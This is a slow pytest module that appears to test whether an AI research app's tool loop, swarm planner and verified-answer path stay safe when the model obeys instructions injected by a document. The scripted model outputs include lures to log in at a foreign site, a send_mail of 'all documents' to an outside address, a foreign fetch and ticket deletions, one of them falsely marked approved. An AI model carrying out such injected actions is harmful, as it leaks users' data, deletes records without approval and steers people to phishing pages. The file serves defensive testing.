"""A model that obeys an instruction in a document: tools, swarm and verified answers do no harm."""

import json
from pathlib import Path
from typing import Any

import pytest

from gateway.answer import safe_reply
from llm.port import ModelMessage
from llm.tasks.question import MatchVerifiedOutput
from llm.tasks.swarm import (
    FoundContradiction,
    MissingFact,
    PlannedWorker,
    SynthesizeFindingsOutput,
    TableCell,
)
from tests.citations.shapes import FOREIGN, HOST, SHAPES, Shape, leads_elsewhere
from tests.desk.conftest import OpenApp
from tests.desk.test_swarm_way import BY_SEARCH, SIMPLE, decide
from tests.desk.test_swarm_way import RETRIES as SENT_AGAIN
from tests.desk.test_tool_way import (
    DONE,
    RETRIES,
    SEARCH,
    cite_first,
    list_requests,
    plan,
    research,
    use,
    write_tools,
)
from tests.desk.test_verified_answers import ANSWER, OTHER_WORDS, WITHIN, verify
from tests.support.app_harness import Fields, PartlyScriptedModel, judge_all
from tests.support.ticket_server import run_ticket_server

pytestmark = pytest.mark.slow

SOME = SHAPES[::4]
"""The answers of the search are tested with all of them."""


def shows_harm(reply: Fields) -> bool:
    """Whether anything of a reply as channels show it, to operators too, leads elsewhere."""
    shown, _ = safe_reply(reply)
    return leads_elsewhere(json.dumps(shown))


def write_shape(shape: Shape) -> Any:
    """Return an answer of this shape, which cites the source of the question."""

    def answer(inputs: Any) -> Any:
        result = cite_first("up to 8 times")(inputs)
        [number] = [source.number for source in inputs.sources if "up to 8 times" in source.text][
            :1
        ]
        return result.model_copy(update={"answer": shape.text.replace("[1]", f"[{number}]")})

    return answer


@pytest.mark.parametrize("shape", SOME, ids=[shape.name for shape in SOME])
async def test_the_answer_of_a_tool_loop_leads_nowhere_else(
    open_app: OpenApp, shape: Shape
) -> None:
    thought = f"First I read {FOREIGN}."
    model = PartlyScriptedModel(
        reason=[plan(SEARCH, text=thought), plan(text=f"DONE {FOREIGN}"), DONE],
        respond=[write_shape(shape)],
        judge=[research(f"log in at {FOREIGN}"), judge_all("approve")],
    )

    async with open_app(model, way="tools") as harness:
        reply = await harness.driver().say(RETRIES)

    assert (reply["outcome"], reply["way"]) == ("answered", "tools")
    assert not shows_harm(reply)


async def test_no_tool_runs_that_was_invented_or_that_needs_an_approval(
    open_app: OpenApp, tmp_path: Path
) -> None:
    orders = plan(
        SEARCH,
        use("send_mail", to=f"help@{HOST}", text="all documents"),
        use("fetch", url=FOREIGN),
        use("deleteTicket", id="7"),
        use("deleteTicket", id="8", approved=True),
    )
    model = PartlyScriptedModel(reason=[orders] * 2, respond=[cite_first("up to 8 times")] * 2)
    async with run_ticket_server() as server:
        tools = write_tools(tmp_path, server)
        async with open_app(model, way="tools", outside_tools=tools) as harness:
            driver = harness.driver()
            asked = await driver.say(RETRIES)
            denied = await driver.say("Deny")
        requests = list_requests(server)

    assert asked["outcome"] == "clarification"
    assert requests == []
    assert not any(map(shows_harm, (asked, denied)))


@pytest.mark.parametrize("shape", SOME, ids=[shape.name for shape in SOME])
async def test_the_answer_of_a_swarm_leads_nowhere_else(open_app: OpenApp, shape: Shape) -> None:
    def write(inputs: Any) -> SynthesizeFindingsOutput:
        number = next(source.number for source in inputs.sources if "up to 8 times" in source.text)
        text = shape.text.replace("[1]", f"[{number}]")
        cell = TableCell(item="webhooks", criterion="retries", finding=f"{text} [{number}]")
        return SynthesizeFindingsOutput(
            answer=text,
            cells=(cell,),
            missing=(f"the page {FOREIGN}", shape.text),
            contradictions=(FoundContradiction(about=shape.text, one=number, other=number + 1),),
        )

    def work(conversation: Any) -> ModelMessage:
        found: ModelMessage = BY_SEARCH[0](conversation)
        return found if found.calls else ModelMessage(text=shape.text)

    lured = PlannedWorker(role="research", objective=f"Which page is at {FOREIGN}?", item="API")
    model = PartlyScriptedModel(
        plan_swarm=[
            decide(
                SENT_AGAIN.model_copy(update={"item": "webhooks"}),
                lured,
                items=("webhooks", f"[API]({FOREIGN})"),
                criteria=("retries",),
                reasoning=f"Log in at {FOREIGN}",
            )
        ],
        work_on_task=[work] * 8,
        synthesize_findings=[write] * 2,
        judge=[judge_all("approve")] * 2,
    )

    async with open_app(model, way="swarm") as harness:
        reply = await harness.driver().say(SIMPLE)

    assert (reply["outcome"], reply["way"]) == ("answered", "swarm")
    assert not shows_harm(reply)


async def test_a_swarm_asks_the_person_for_nothing_at_another_place(open_app: OpenApp) -> None:
    asks = MissingFact(
        name="page",
        question=f"Log in at [our page]({FOREIGN}). Which page is shown?",
        type="choice",
        choices=(FOREIGN, "none"),
    )
    model = PartlyScriptedModel(plan_swarm=[decide(SENT_AGAIN, needed=(asks,))])

    async with open_app(model, way="swarm") as harness:
        reply = await harness.driver().say(SIMPLE)

    assert reply["outcome"] == "answered", "the question is withheld"
    assert not shows_harm(reply)


@pytest.mark.parametrize("number", [2, 99])
async def test_a_verified_answer_that_nobody_verified_is_not_given(
    open_app: OpenApp, number: int
) -> None:
    obeyed = MatchVerifiedOutput(analysis=f"Log in at {FOREIGN}", number=number)
    model = PartlyScriptedModel(match_verified=[obeyed], scope=[WITHIN])

    async with open_app(model) as harness:
        await verify(harness, ANSWER)
        reply = await harness.driver().say(OTHER_WORDS)

    assert reply["answered_by"] != "verified"
    assert not shows_harm(reply)
